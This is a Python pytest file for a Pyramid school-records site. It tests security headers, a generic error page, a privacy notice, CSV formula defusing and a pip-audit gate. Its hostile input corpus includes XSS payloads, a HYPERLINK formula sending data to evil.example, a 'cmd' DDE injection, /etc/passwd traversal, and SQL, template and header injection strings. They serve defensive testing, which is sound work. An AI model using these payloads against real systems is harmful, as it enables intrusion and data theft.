"""Hostile input and what the site answers with (I2, I4, I5, I6): security headers on
every kind of response, a generic error page, an XSS / formula / traversal /
oversize corpus in every form field, and pip-audit when its data can be reached."""
import logging
import os
import re

import pytest
from pyramid.security import NO_PERMISSION_REQUIRED
from pyramid.threadlocal import get_current_registry

from xueji_site.kernel.nodes import Site
from .conftest import Browser, add_user, base_settings, build_tree, open_site
from xueji_site.kernel.root import database


# -- I5: headers on 200 / 403 / 404 / 500, and the generic error page ----------------

def _boom(context, request):
    """A test-only view: writes, then fails, as a bug would."""
    request.site.audit.append("", "boom", "", "boom-write", "/", "ok", {})
    raise RuntimeError("secret detail: /srv/xueji/var/Data.fs password=hunter2")


def _make_app(settings):
    from xueji_site import configure
    from xueji_site.kernel.root import ensure_site
    config = configure(settings)
    config.add_view(_boom, context=Site, name="boom", permission=NO_PERMISSION_REQUIRED)
    app = config.make_wsgi_app()
    ensure_site(database(app.registry), app.registry)
    return app


@pytest.fixture(params=[False, True], ids=["http", "https"])
def boom_app(request, key_file):
    secure = request.param
    app = _make_app(dict(base_settings(key_file), **{"xueji.secure_cookies": "true" if secure else "false"}))
    app.secure = secure
    yield app
    database(app.registry).close()


def _assert_security_headers(response, secure):
    headers = response.headers
    csp = headers["Content-Security-Policy"]
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert "frame-ancestors 'none'" in csp and "script-src 'self'" in csp and "object-src 'none'" in csp
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] in ("same-origin", "no-referrer", "strict-origin-when-cross-origin")
    assert headers["X-Frame-Options"] == "DENY"
    assert "Access-Control-Allow-Origin" not in headers  # CORS closed
    assert ("Strict-Transport-Security" in headers) == secure
    if response.content_type == "text/html":
        assert "no-store" in headers["Cache-Control"]


def test_headers_on_200_403_404_500(boom_app, caplog):
    environ = {"REMOTE_ADDR": "127.0.0.1"}
    if boom_app.secure:
        environ.update({"wsgi.url_scheme": "https", "HTTP_HOST": "xueji.example"})
    with open_site(boom_app) as site:
        add_user(site, "plain")
    browser = Browser(boom_app, extra_environ=environ)
    _assert_security_headers(browser.get("/login", status=200), boom_app.secure)
    browser.login("plain")
    _assert_security_headers(browser.get("/", status=200), boom_app.secure)
    _assert_security_headers(browser.get("/users", status=403), boom_app.secure)
    _assert_security_headers(browser.get("/no/such/page", status=404), boom_app.secure)
    with caplog.at_level(logging.ERROR, logger="xueji_site.views.errors"):
        page = browser.get("/boom", status=500)
    _assert_security_headers(page, boom_app.secure)
    incident = re.search(r"<code>([0-9a-f]{12})</code>", page.text).group(1)
    assert "Traceback" not in page.text and "hunter2" not in page.text and "Data.fs" not in page.text
    assert incident in caplog.text and "RuntimeError" in caplog.text  # the detail goes to the log
    with open_site(boom_app) as site:  # and the failed request's write was rolled back
        assert not site.audit.newest(lambda e: e.action == "boom-write")


# -- the privacy notice (G1/G2 groundwork) ---------------------------------------------

def test_privacy_notice_is_public_versioned_and_linked_from_every_page(app, browser):
    from xueji_site.views.privacy import VERSION
    page = browser.get("/privacy", status=200)  # anonymous
    assert page.html.find(id="privacy-version").text.startswith("版本 " + VERSION)
    for heading in ("我们收集哪些信息", "为什么收集", "谁可以看到", "保存多久", "监护人如何查询和更正"):
        assert heading in page.text
    with open_site(app) as site:
        add_user(site, "plain")
    for url, status in (("/login", 200), ("/nothing-here", 404)):
        assert browser.get(url, status=status).html.find(id="privacy-link")["href"].endswith("/privacy")
    browser.login("plain")
    assert browser.get("/", status=200).html.find(id="privacy-link") is not None
    assert browser.get("/privacy", status=200).status_int == 200  # also when logged in


# -- I2 / I4: a hostile corpus in every field of every form --------------------------------

SCRIPT = "<script>alert('xss')</script>"
CORPUS = [
    SCRIPT,
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(document.cookie)",
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "../../../../etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "${request.registry.settings}{{7*7}}<%= 7*7 %>",
    "' OR '1'='1'; --",
    "名字\u202eexe.txt\x00\r\nSet-Cookie: x=1",
    "Ｘ" * 40_000,  # 120 kB of UTF-8
]
RAW_MARKUP = (SCRIPT, "<img src=x onerror", "<%= 7*7 %>")


def _free_text_fields(form):
    """Every field a user types into (not the CSRF token, not choices)."""
    names = []
    for name, fields in form.fields.items():
        field = fields[0]
        tag = getattr(field, "tag", "input")
        kind = (field.attrs.get("type") or "text").lower() if hasattr(field, "attrs") else "text"
        if name in (None, "csrf_token", "_charset_", "__formid__") or kind in ("hidden", "submit", "checkbox", "radio"):
            continue
        if tag == "select" or field.__class__.__name__ in ("Select", "MultipleSelect", "Radio", "Checkbox"):
            continue
        names.append(name)
    return names


def _no_raw_markup(text, where):
    for raw in RAW_MARKUP:
        assert raw not in text, "unescaped %r on %s" % (raw, where)


def _attack(browser, url, form_id, button, fields=None):
    """Send every corpus entry in every free-text field at once, then the script entry
    in each field alone (so that it can pass validation elsewhere and be stored)."""
    statuses = []
    page = browser.get(url)
    names = fields or _free_text_fields(page.forms[form_id])
    assert names, url
    plans = [{n: payload for n in names} for payload in CORPUS] + [{n: SCRIPT} for n in names]
    for plan in plans:
        form = browser.get(url).forms[form_id]
        for name, value in plan.items():
            form[name] = value
        response = form.submit(button, expect_errors=True)
        statuses.append(response.status_int)
        assert response.status_int < 500, (url, plan.keys(), response.status)
        _no_raw_markup(response.text, url)
    return statuses


@pytest.fixture
def attack_tree(app):
    with open_site(app) as site:
        nodes = build_tree(site, get_current_registry())
        add_user(site, "root", "sysadmin")
        add_user(site, "aud", "auditor")
        return {name: node.__name__ for name, node in nodes.items()}


def test_corpus_in_every_form_field(app, attack_tree):
    admin = Browser(app, extra_environ={"REMOTE_ADDR": "10.2.0.1"})
    admin.login("root")
    school = "/110000/110105/2111000001/"
    klass = school + "2024-03/"
    pupil = klass + attack_tree["pupil_a"] + "/"
    targets = [
        ("/add?type=Bureau", "xueji-form", "save"),
        ("/110000/add?type=Bureau", "xueji-form", "save"),
        ("/110000/110105/add?type=School", "xueji-form", "save"),
        (school + "add?type=SchoolClass", "xueji-form", "save"),
        (klass + "add?type=Student", "xueji-form", "save"),
        ("/110000/edit", "xueji-form", "save"),
        (school + "edit", "xueji-form", "save"),
        (klass + "edit", "xueji-form", "save"),
        (pupil + "edit", "xueji-form", "save"),
        (school + "sharing", "grant-form", "grant"),
        (klass + "request-export", "export-request-form", "submit"),  # G3/G4: purpose and recipient
        ("/password", "password-form", "save"),
    ]
    stored = 0
    for url, form_id, button in targets:
        stored += _attack(admin, url, form_id, button).count(303)
    assert stored > 0  # some payloads were accepted and stored: the crawl below sees them
    # the login form, from fresh addresses (the per-address throttle would stop one client)
    for i, payload in enumerate(CORPUS):
        anonymous = Browser(app, extra_environ={"REMOTE_ADDR": "10.3.0.%d" % i})
        form = anonymous.get("/login").forms["login-form"]
        form["login"], form["password"] = payload, payload
        response = form.submit("submit", expect_errors=True)
        assert response.status_int == 200 and "<script>alert" not in response.text
    # everything stored is shown escaped wherever it appears
    escaped = 0
    for url in ("/", "/110000/", "/110000/110105/", school, klass, pupil, school + "sharing"):
        page = admin.get(url, expect_errors=True)
        assert page.status_int < 500
        _no_raw_markup(page.text, url)
        escaped += page.text.count("&lt;script&gt;alert")
    assert escaped > 0  # the stored payloads are on those pages, as text
    auditor = Browser(app, extra_environ={"REMOTE_ADDR": "10.2.0.2"})
    auditor.login("aud")
    _no_raw_markup(auditor.get("/audit").text, "/audit")


def test_formula_cells_are_defused_in_exports(app, attack_tree):
    admin = Browser(app, extra_environ={"REMOTE_ADDR": "10.2.0.3"})
    admin.login("root")
    form = admin.get("/110000/110105/2111000001/edit").forms["xueji-form"]
    form["name"] = '=HYPERLINK("http://evil.example","x")'
    form.submit("save", status=303)
    csv = admin.get("/110000/110105/export?type=School&format=csv")  # a broken export fails here
    assert "csv" in csv.content_type
    text = csv.body.decode("utf-8-sig")
    assert "HYPERLINK" in text
    assert not re.search(r'(^|[,\n])"?=HYPERLINK', text)  # never a bare formula at a cell's start


# -- I6: known vulnerabilities in the installed packages ----------------------------------

PYPI = "https://pypi.org/pypi/%s/%s/json"


def _pypi_knows(name, version):
    """None when the PyPI JSON API answers for this exact release, else why not."""
    import urllib.error
    import urllib.request
    try:
        with urllib.request.urlopen(PYPI % (name, version), timeout=5) as response:
            return None if response.status == 200 else "HTTP %s" % response.status
    except urllib.error.HTTPError as exc:
        return "PyPI answers %s for %s %s" % (exc.code, name, version)
    except (urllib.error.URLError, OSError) as exc:
        return "PyPI cannot be reached (%s)" % exc


def test_pip_audit_finds_no_known_vulnerability():
    """The CI gate: pip-audit over this environment. Its data is the PyPI JSON
    API; where that cannot be reached, or does not know the installed releases
    (a private mirror), the test skips and says why instead of passing silently."""
    import importlib.metadata
    import json
    import shutil
    import subprocess
    import sys
    exe = shutil.which("pip-audit", path=os.path.dirname(sys.executable)) or shutil.which("pip-audit")
    if exe is None:
        pytest.skip("pip-audit is not installed (it is in the [test] extra)")
    why = _pypi_knows("bcrypt", importlib.metadata.version("bcrypt"))
    if why:
        pytest.skip("pip-audit not run: " + why)
    done = subprocess.run([exe, "--local", "--format", "json", "--progress-spinner", "off"],
                          capture_output=True, text=True, timeout=300)
    report = json.loads(done.stdout or "{}")
    deps = [d for d in report.get("dependencies", []) if d["name"] != "xueji"]
    audited = [d for d in deps if "skip_reason" not in d]
    if not audited:
        pytest.skip("pip-audit could audit none of %d packages: %s" % (len(deps), done.stderr.strip()[-300:]))
    vulnerable = {(d["name"], d["version"]): [v["id"] for v in d["vulns"]] for d in audited if d.get("vulns")}
    assert vulnerable == {}, "known vulnerabilities: %r" % vulnerable
